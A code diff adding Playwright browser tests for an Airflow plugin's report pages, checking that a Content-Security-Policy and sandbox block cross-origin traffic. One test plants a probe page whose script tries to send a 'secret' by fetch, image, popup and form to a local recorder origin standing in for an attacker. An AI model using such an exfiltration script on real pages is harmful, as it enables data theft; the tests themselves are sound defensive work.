@@ -332,12 +332,19 @@ def test_the_conflicts_page_and_data_docs_render(services, browser, tmp_path):
     assert sorted(tables) == ["accounts", "orders", "products"]
     assert page.locator("table#conflicts tr").count() > 1
     _shot(page, tmp_path, "conflicts-page")
+    page.context.add_init_script(VIOLATIONS)
     with page.expect_popup() as opened:  # a tab of its own: a sandboxed page, top level
         page.get_by_text("Data Docs").first.click()
     docs = opened.value
     docs.wait_for_load_state("networkidle")
-    assert f"/cdr/docs/{DATES[1]}/{_report(services.store, DATES[1])['run_id']}/" in docs.url
+    run_id = _report(services.store, DATES[1])["run_id"]
+    assert f"/cdr/docs/{DATES[1]}/{run_id}/grant/" in docs.url
     assert "snapshot" in docs.content()
+    # the policy allows what the pages need: their bundled scripts and styles load and
+    # run, and nothing is refused
+    assert docs.evaluate("typeof window.jQuery") == "function"
+    assert docs.evaluate("document.styleSheets.length") > 0
+    assert docs.evaluate("window.__violations") == []
     _shot(docs, tmp_path, "data-docs")
     # the page inside Airflow's UI, from the Browse menu
     page.goto(f"{services.url}/plugin/cdr-conflicts")
@@ -345,6 +352,83 @@ def test_the_conflicts_page_and_data_docs_render(services, browser, tmp_path):
     frame = page.frame_locator("iframe").first
     frame.locator("svg#conflicts-chart").wait_for(timeout=60_000)
     _shot(page, tmp_path, "airflow-ui-conflicts")
+
+
+#: records the page's Content-Security-Policy violations, before any of its scripts runs
+VIOLATIONS = """
+window.__violations = [];
+document.addEventListener("securitypolicyviolation",
+    (e) => window.__violations.push(e.effectiveDirective));
+"""
+
+
+class _Recorder:
+    """An HTTP server on another loopback origin that records every request it gets."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        got = self.requests = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                got.append(self.path)
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *a: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+#: a page of a run's Data Docs that tries to send what it can reach elsewhere
+PROBE = """<html><body><p id="done">probe</p><script>
+const to = "{url}";
+fetch(to + "/fetch?typed=secret").catch(() => {{}});  // (document.cookie throws here)
+new Image().src = to + "/img";
+window.open(to + "/popup");
+const form = document.createElement("form");
+form.action = to + "/form"; form.method = "POST";
+document.body.appendChild(form);
+form.submit();
+</script></body></html>"""
+
+
+def test_a_data_docs_page_sends_nothing_to_another_origin(services, browser):
+    """A page the run wrote (say one whose data carried a script) runs in the sandbox under
+    the policy: its fetch, image, popup and form to another loopback origin are refused,
+    the recorder there gets no request, and the policy's refusals fire
+    ``securitypolicyviolation`` (the form and the popup are refused by the sandbox
+    itself, before the policy's ``form-action``: no event, and the page stays)."""
+    import hashlib
+
+    recorder = _Recorder()
+    store, run_id = services.store, _report(services.store, DATES[1])["run_id"]
+    body = PROBE.format(url=recorder.url).encode()
+    docs = f"published/reports/dt={DATES[1]}/run={run_id}/validation/data_docs"
+    store.write_bytes(f"{docs}/probe.html", body)
+    key = f"published/reports/dt={DATES[1]}/run={run_id}/run_report.json"
+    report = json.loads(store.read_bytes(key))  # as if the run had written the page
+    report["validation"]["data_docs_files"]["probe.html"] = hashlib.sha256(body).hexdigest()
+    store.write_bytes(key, json.dumps(report).encode())
+    page = browser.new_page()
+    services.login(page)
+    page.context.add_init_script(VIOLATIONS)
+    page.goto(f"{services.url}/cdr/docs/{DATES[1]}/{run_id}/probe.html")
+    page.wait_for_load_state("networkidle")
+    time.sleep(1)
+    assert page.locator("#done").inner_text() == "probe"  # still there: the form did not go
+    assert "/grant/" in page.url and len(page.context.pages) == 1  # no popup
+    assert recorder.requests == []
+    assert set(page.evaluate("window.__violations")) >= {"connect-src", "img-src"}
+    recorder.server.shutdown()
 
 
 def test_the_trigger_form_shows_the_params_and_triggers(services, browser, tmp_path):
